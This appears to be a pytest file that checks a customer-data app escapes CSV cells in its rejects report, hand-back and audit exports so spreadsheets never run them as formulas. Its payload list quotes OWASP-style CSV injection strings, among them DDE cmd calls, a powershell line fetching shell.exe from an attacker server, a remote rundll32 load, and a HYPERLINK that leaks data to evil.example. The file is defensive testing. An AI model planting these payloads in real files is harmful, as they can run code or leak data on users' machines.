"""Files people open in a spreadsheet (the rejects report, the hand-back, the audit export)
never hold a cell that a spreadsheet would run as a formula; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from app.domain.cells import FORMULA_STARTS, text_cell
from app.services.handback import export_handback
from app.services.importing import add_demo_staff, import_folder
from app.services.station import open_station
from app.settings import Settings
from tests.clock import Clock

# OWASP's CSV injection examples, and the starts it names (=, +, -, @, tab, carriage return).
PAYLOADS = (
    "=1+2",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "+1+2",
    "-1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Error: please click for details")',
    "\t=1+2",
    "\r=1+2",
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_cell_is_never_a_formula(payload: str) -> None:
    cell = text_cell(payload)
    assert cell == "'" + payload
    assert not cell.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("text", ["", "Ann", "12.50", "C000001", "'=already quoted", " =1"])
def test_other_text_is_left_alone(text: str) -> None:
    assert text_cell(text) == text


def write_csv(path: Path, rows: list[list[str]]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows(rows)


def cells(path_or_text: Path | str) -> list[list[str]]:
    text = path_or_text.read_text("utf-8") if isinstance(path_or_text, Path) else path_or_text
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_formula(rows: list[list[str]], numbers: frozenset[str] = frozenset()) -> None:
    header, *body = rows
    assert body
    for row in body:
        for column, cell in zip(header, row, strict=True):
            if column not in numbers:
                assert not cell.startswith(FORMULA_STARTS), (column, cell)


def test_exports_neutralise_every_payload(tmp_path: Path, clock: Clock) -> None:
    export = tmp_path / "export"
    ids = [f'=HYPERLINK("http://evil.example/{n}")' for n in range(2)]
    write_csv(
        export / "customers.csv",
        [
            ["customer_id", "given_name", "joined_on", "notes"],
            [ids[0], "Ann", "2020-03-14", PAYLOADS[0]],
            [ids[1], "Bob", "2020-03-14", ""],
            *[[f"C{n}", "Bad", payload, ""] for n, payload in enumerate(PAYLOADS)],
        ],
    )
    data = tmp_path / "data"
    station = open_station(Settings(db_path=data / "standing.sqlite3"), clock=clock)
    try:
        add_demo_staff(station)
        report = import_folder(station, export, rejects=data / "rejects.csv")
        assert report.rejected == len(PAYLOADS)
        clerk = station.staff.find("clerk1")
        assert clerk is not None
        station.concessions.record(
            clerk, ids[0], category="delay", action="refund", value=12_50, amount=12_50,
            words="-great, thanks", note="@counter",
        )  # fmt: skip
        station.concessions.record_feedback(clerk, ids[1], kind="compliment", words="+1 staff")
        station.desk(clerk).open(ids[0], "customer_id")
        export_handback(station.db, data / "handback", station.audit, "clerk1")
        audit = io.StringIO()
        station.audit.export_csv(audit)
    finally:
        station.close()

    rejects = cells(data / "rejects.csv")
    assert_no_formula(rejects, frozenset({"line"}))
    assert {row[3] for row in rejects[1:]} == {"'" + p.strip() for p in PAYLOADS}  # read stripped

    given = cells(data / "handback" / "concessions.csv")
    assert_no_formula(given, frozenset({"value", "disputed_amount"}))
    row = dict(zip(given[0], given[1], strict=True))
    assert row["customer_id"] == "'" + ids[0]
    assert row["value"] == "12.50" and row["words"] == "'-great, thanks"
    assert_no_formula(cells(data / "handback" / "interactions.csv"))

    logged = cells(audit.getvalue())
    assert_no_formula(logged)
    assert "'" + ids[0] in {dict(zip(logged[0], r, strict=True))["customer_id"] for r in logged}
